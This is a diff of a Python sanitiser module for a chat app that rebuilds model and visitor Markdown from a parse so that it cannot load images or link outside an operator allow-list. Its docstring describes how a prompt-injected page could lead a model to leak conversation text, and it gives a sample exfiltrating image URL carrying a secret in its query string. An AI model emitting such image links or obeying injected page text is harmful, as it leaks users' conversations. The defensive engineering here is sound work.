@@ -1,38 +1,55 @@
-"""Model answers and visitors' questions shown as text plus a safe subset of Markdown.
+"""The one way text reaches the page: Markdown rebuilt from a parse, so nothing in it can load a
+resource or be a live link outside the operator's allow-list.
 
-The chat boxes render Markdown, and Markdown can make the visitor's browser fetch any address
-(``![x](http://host/x.png?q=secret)``, ``<img src=…>``, a data URI): with a prompt-injected page
-a model could send conversation text out that way. So before a text reaches a chat box,
-`safe` keeps emphasis, lists, headings and code, and neutralises the rest:
+Model answers, visitors' questions, stored names, reasons and comments are data; a Markdown or
+HTML renderer would turn some of them into elements (``![x](http://host/x.png?q=secret)``,
+``<img src=…>``, an autolink), and with a prompt-injected page a model could send conversation text
+out that way. Filtering by pattern does not hold: the renderer's reading of code spans, fences and
+blank lines is subtler than any regular expression. So:
 
-* raw HTML and entities are shown as typed (``<`` ``>`` ``&`` become entities);
-* images are never drawn: ``![alt](url)`` shows as its alt text;
-* links show as their visible text, unless their address is ``https``/``http`` on a host of the
-  operator's allow-list (``RAGARENA_LINK_HOSTS``, comma-separated; a host also allows its
-  subdomains); bare addresses are not turned into links (``http\\://``, ``www\\.``);
-* code spans and fenced blocks stay as written (Markdown shows them literally anyway).
+* `safe` parses the text with markdown-it-py (CommonMark, raw HTML off: it becomes text) and writes
+  the syntax tree back as Markdown in which every text leaf has ALL its ASCII punctuation
+  backslash-escaped, so that no parser (CommonMark, or ``marked`` with GFM as Gradio's browser code
+  uses) can read a link, image, autolink, e-mail, HTML tag, entity, table or block marker in it. The
+  only structure in the output is what this module writes: paragraphs, emphasis, headings, lists,
+  block quotes, rules, inline code (a backtick fence longer than any run inside, newlines folded to
+  spaces), fenced code (a fence longer than any run inside; the language kept only when it is a
+  plain word, never ``mermaid``, which Gradio renders as a diagram), and links whose address is
+  ``http``/``https`` on a host of ``RAGARENA_LINK_HOSTS`` (comma-separated; a host also allows its
+  subdomains). Any other link shows its text; an image shows its alt text. The output never holds
+  ``$$`` (Gradio cuts ``$$…$$`` out for KaTeX before parsing, which could change what is code): in
+  code, a zero-width space separates two dollars.
+* `literal` writes any text so that it shows exactly as typed inside Markdown the app writes (a model
+  name in a heading, a reason in a list): every ASCII punctuation escaped, line breaks as spaces.
+  `code` writes it as an inline code span instead.
+* `html_text` is the same for HTML the app writes (the passages panel) and for plotly's labels: HTML-escaped.
 
-`plain` undoes the escaping, so the text a visitor saw (``safe(x)``) gives back what the model
-or the visitor wrote, less the addresses of links that were dropped: it is what the chat
-endpoint takes as history.
+`plain` gives back the text behind what a visitor saw (`safe`'s output, or any message sent back as
+history): the same tree written without escapes, so the chat endpoint can rebuild a conversation.
 """
 
 from __future__ import annotations
 
+import functools
+import html
 import os
 import re
+from typing import Callable
 from urllib.parse import urlsplit
 
-# Code (fenced blocks, then inline spans) is kept verbatim; everything between is escaped.
-_CODE = re.compile(r"(^```.*?^```[ \t]*$|^~~~.*?^~~~[ \t]*$|(`+)[^`].*?\2)", re.DOTALL | re.MULTILINE)
-# ![alt](target) and [text](target), target up to the matching ")" (no nested parentheses).
-_LINK = re.compile(r"(!?)\[([^\[\]]*)\]\(\s*<?([^()\s<>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'))?\s*\)")
-# Markdown punctuation that can start a link, image, reference or autolink.
-_SPECIAL = re.compile(r"([\\\[\]!])")
-_ENTITIES = {"&": "&amp;", "<": "&lt;", ">": "&gt;"}
-_BARE_URL = re.compile(r"(?i)\b(https?|ftp|data|javascript):(?=\S)|\b(www)\.(?=\S)")
-_UNESCAPE = re.compile(r"\\([\\\[\]!.:])|&(amp|lt|gt);")
-_ENTITY_CHARS = {"amp": "&", "lt": "<", "gt": ">"}
+from markdown_it import MarkdownIt
+from markdown_it.tree import SyntaxTreeNode
+
+# CommonMark, raw HTML off (shown as text), no linkify, no typographer: what a reader typed.
+_PARSER = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
+_PUNCTUATION = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character
+_LINE_BREAKS = re.compile(r"[\r\n]+")
+_BREAKING_SPACE = re.compile(r"[\r\n\t\f\v]")  # what could end a line or indent one into a code block
+_DOLLARS = re.compile(r"\$(?=\$)")
+_ZERO_WIDTH_SPACE = "\u200b"
+_INFO_WORD = re.compile(r"[A-Za-z0-9_+-]{1,30}")
+# What an address the page may link to can hold as it is; anything else is percent-encoded.
+_URL_UNSAFE = re.compile(r"[^A-Za-z0-9\-._~:/?#@!&'*+,;=%]")
 
 
 def link_hosts() -> tuple[str, ...]:
@@ -44,61 +61,167 @@ def link_hosts() -> tuple[str, ...]:
 def allowed_link(url: str, hosts: tuple[str, ...]) -> bool:
     try:
         parts = urlsplit(url)
+        host = (parts.hostname or "").lower()
     except ValueError:
         return False
-    host = (parts.hostname or "").lower()
     if parts.scheme.lower() not in ("http", "https") or not host or parts.username or parts.password:
         return False
     return any(host == allowed or host.endswith("." + allowed) for allowed in hosts)
 
 
-def _escape_text(text: str) -> str:
-    text = re.sub(r"[&<>]", lambda m: _ENTITIES[m.group(0)], text)
-    text = _SPECIAL.sub(r"\\\1", text)
-    # Break bare addresses so no renderer turns them into links: "http\://x", "www\.x" read the same.
-    return _BARE_URL.sub(lambda m: f"{m.group(1)}\\:" if m.group(1) else f"{m.group(2)}\\.", text)
+def literal(text: str) -> str:
+    """`text` for a Markdown context: shown as typed (on one line), never read as markup."""
+    return _escape(_BREAKING_SPACE.sub(" ", str(text or "")).lstrip(" "))
 
 
-def _escape_prose(text: str, hosts: tuple[str, ...]) -> str:
-    out, last = [], 0
-    for match in _LINK.finditer(text):
-        out.append(_escape_text(text[last:match.start()]))
-        image, label, url = match.group(1), match.group(2), match.group(3)
-        if not image and allowed_link(url, hosts):
-            out.append(f"[{_escape_text(label)}]({url})")
-        else:
-            out.append(_escape_text(label))
-        last = match.end()
-    out.append(_escape_text(text[last:]))
-    return "".join(out)
+def _escape(text: str) -> str:
+    return _PUNCTUATION.sub(r"\\\1", _LINE_BREAKS.sub(" ", text))
+
+
+def code(text: str) -> str:
+    """`text` as an inline code span for Markdown the app writes (an id, a command), shown as typed."""
+    return _Writer(_escape, ()).code_span(str(text or ""))
+
+
+def html_text(text: str) -> str:
+    """`text` for an HTML context: shown as typed, never read as markup."""
+    return html.escape(str(text or ""), quote=True)
 
 
 def safe(text: str, hosts: tuple[str, ...] | None = None) -> str:
     """`text` as Markdown that draws no image, no HTML and links only to allowed hosts."""
     if not text:
         return text or ""
-    hosts = link_hosts() if hosts is None else hosts
-    out, last = [], 0
-    for match in _CODE.finditer(text):
-        out.append(_escape_prose(text[last:match.start()], hosts))
-        out.append(match.group(0))
-        last = match.end()
-    out.append(_escape_prose(text[last:], hosts))
-    return "".join(out)
+    return _safe(text, link_hosts() if hosts is None else hosts)
 
 
-def plain(shown: str) -> str:
-    """The text behind `safe`'s output (code left as it is): escapes and entities undone."""
+@functools.lru_cache(maxsize=256)  # a page redraws earlier messages with each frame of the next one
+def _safe(text: str, hosts: tuple[str, ...]) -> str:
+    return _Writer(_escape, hosts).document(text)
+
+
+def plain(shown: str, hosts: tuple[str, ...] | None = None) -> str:
+    """The text behind a shown message: its Markdown structure with the escapes undone."""
     if not shown:
         return shown or ""
-    out, last = [], 0
-    for match in _CODE.finditer(shown):
-        out.append(_unescape(shown[last:match.start()]))
-        out.append(match.group(0))
-        last = match.end()
-    out.append(_unescape(shown[last:]))
-    return "".join(out)
+    hosts = link_hosts() if hosts is None else hosts
+    return _Writer(lambda text: _LINE_BREAKS.sub(" ", text), hosts, hard_break="\n",
+                   code_guard=lambda code: code.replace(_ZERO_WIDTH_SPACE, "")).document(shown)
 
 
-def _unescape(text: str) -> str:
-    return _UNESCAPE.sub(lambda m: m.group(1) if m.group(1) else _ENTITY_CHARS[m.group(2)], text)
+def _no_double_dollar(code: str) -> str:
+    return _DOLLARS.sub("$" + _ZERO_WIDTH_SPACE, code)
+
+
+def _fence_for(code: str, least: int) -> str:
+    longest = max((len(run) for run in re.findall(r"`+", code)), default=0)
+    return "`" * max(least, longest + 1)
+
+
+def _indent(text: str, first: str, rest: str) -> str:
+    lines = text.split("\n")
+    return "\n".join([first + lines[0]] + [(rest + line) if line else rest.rstrip() for line in lines[1:]])
+
+
+class _Writer:
+    """Writes a markdown-it syntax tree back as Markdown, text leaves through `escape`."""
+
+    def __init__(self, escape: Callable[[str], str], hosts: tuple[str, ...], hard_break: str = "\\\n",
+                 code_guard: Callable[[str], str] = _no_double_dollar):
+        self.escape, self.hosts, self.hard_break, self.code_guard = escape, hosts, hard_break, code_guard
+
+    def document(self, text: str) -> str:
+        return self.blocks(SyntaxTreeNode(_PARSER.parse(text)).children, "\n\n")
+
+    # --- blocks ---------------------------------------------------------------------------------
+
+    def blocks(self, nodes, separator: str) -> str:
+        # A block with nothing to show (blank text from an entity's line break, say) is left out.
+        return separator.join(part for part in (self.block(node) for node in nodes) if part.strip())
+
+    def block(self, node: SyntaxTreeNode) -> str:
+        kind = node.type
+        if kind == "paragraph":
+            return self.inline(node)
+        if kind == "heading":
+            content = self.inline(node)
+            return "#" * int(node.tag[1]) + " " + content if content.strip() else ""
+        if kind in ("bullet_list", "ordered_list"):
+            return self.list(node)
+        if kind == "blockquote":
+            content = self.blocks(node.children, "\n\n")
+            return _indent(content, "> ", "> ") if content.strip() else ""
+        if kind in ("fence", "code_block"):
+            return self.code_block(node)
+        if kind == "hr":
+            return "---"
+        return self.escape(node.content or "")  # anything else (none with this parser): its text
+
+    def list(self, node: SyntaxTreeNode) -> str:
+        tight = all(child.hidden for item in node.children for child in item.children
+                    if child.type == "paragraph")
+        items = []
+        number = int(node.attrs.get("start", 1) or 1) if node.type == "ordered_list" else None
+        for item in node.children:
+            content = self.blocks(item.children, "\n" if tight else "\n\n")
+            if not content.strip():
+                continue
+            marker = f"{number}{item.markup or '.'}" if number is not None else (item.markup or "-")
+            items.append(_indent(content, marker + " ", " " * (len(marker) + 1)))
+            number = number + 1 if number is not None else None
+        return ("\n" if tight else "\n\n").join(items)
+
+    def code_block(self, node: SyntaxTreeNode) -> str:
+        code = self.code_guard(node.content or "")
+        if code and not code.endswith("\n"):
+            code += "\n"
+        info = (node.info or "").strip().split(" ")[0] if node.type == "fence" else ""
+        if not _INFO_WORD.fullmatch(info) or info.lower().startswith("mermaid"):  # Gradio draws those
+            info = ""
+        fence = _fence_for(code, 3)
+        return f"{fence}{info}\n{code}{fence}"
+
+    # --- inline ---------------------------------------------------------------------------------
+
+    def inline(self, node: SyntaxTreeNode, in_link: bool = False) -> str:
+        children = node.children[0].children if node.children and node.children[0].type == "inline" \
+            else node.children
+        return "".join(self.span(child, in_link) for child in children)
+
+    def span(self, node: SyntaxTreeNode, in_link: bool) -> str:
+        kind = node.type
+        if kind == "text":
+            return self.escape(node.content)
+        if kind == "softbreak":
+            return "\n"
+        if kind == "hardbreak":
+            return self.hard_break
+        if kind == "code_inline":
+            return self.escape(node.content) if in_link else self.code_span(node.content)
+        if kind in ("em", "strong"):
+            content = self.inline(node, in_link)
+            return f"{node.markup}{content}{node.markup}" if content else ""
+        if kind == "image":
+            return self.inline(node, True)  # its alt text (as text, never code)
+        if kind == "link":
+            return self.link(node, in_link)
+        return self.escape(node.content or "")
+
+    def code_span(self, code: str) -> str:
+        code = self.code_guard(_LINE_BREAKS.sub(" ", code))
+        fence = _fence_for(code, 1)
+        # CommonMark drops one space at each end when both ends have one (unless all are spaces).
+        pad = " " if code.startswith("`") or code.endswith("`") or (
+            code.startswith(" ") and code.endswith(" ") and code.strip(" ")) else ""
+        return f"{fence}{pad}{code}{pad}{fence}"
+
+    def link(self, node: SyntaxTreeNode, in_link: bool) -> str:
+        url = str(node.attrs.get("href", ""))
+        label = self.inline(node, True)
+        if in_link or not allowed_link(url, self.hosts):
+            return label
+        return f"[{label or self.escape(url)}]({_URL_UNSAFE.sub(_percent, url)})"
+
+
+def _percent(match: re.Match) -> str:
+    return "".join(f"%{byte:02X}" for byte in match.group(0).encode("utf-8"))
